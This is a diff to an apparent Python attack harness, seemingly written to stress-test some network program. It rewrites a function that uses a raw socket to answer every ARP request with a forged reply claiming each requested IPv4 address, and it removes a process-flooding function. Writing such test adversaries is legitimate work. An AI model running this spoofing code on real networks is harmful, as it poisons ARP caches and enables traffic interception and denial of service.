@@ -4,13 +4,10 @@ It shares no code with what it attacks.  An attack that has to make something fi
 """
 
 import itertools
-import os
 import socket
 import struct
 import subprocess
 import sys
-import time
-from collections.abc import Iterator
 from contextlib import suppress
 from pathlib import Path
 
@@ -219,34 +216,17 @@ def addresses() -> None:
                                stderr=subprocess.DEVNULL)  # fmt: skip
 
 
-def _packets() -> Iterator[tuple[socket.socket, bytes, str]]:
-    """All that comes by, once there is a link."""
+def spoofs() -> None:
+    """Say of every IPv4 address that somebody asks for: it is ours."""
     sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
     ready()
     while True:
         frame, (interface, *_) = sock.recvfrom(2048)
-        yield sock, frame, interface
-
-
-def spoofs() -> None:
-    """Say of every address that somebody asks for: it is ours."""
-    for sock, frame, interface in _packets():
         if frame[12:14] == b"\x08\x06" and frame[20:22] == b"\0\1":
             mac, asked = b"\2\xee\0\0\0\1", frame[38:42]
             arp = struct.pack("!HHBBH", 1, 0x0800, 6, 4, 2) + mac + asked + frame[22:28] + bytes(4)
-            for _ in range(20):
-                with suppress(OSError):
-                    sock.sendto(b"\xff" * 6 + mac + b"\x08\x06" + arp, (interface, 0))
-
-
-def processes() -> None:
-    """So many (argument)."""
-    for _ in range(int(sys.argv[2])):
-        if not os.fork():
-            time.sleep(1000)
-            os._exit(0)
-    ready()
-    time.sleep(1000)
+            with suppress(OSError):
+                sock.sendto(b"\xff" * 6 + mac + b"\x08\x06" + arp, (interface, 0))
 
 
 if __name__ == "__main__":
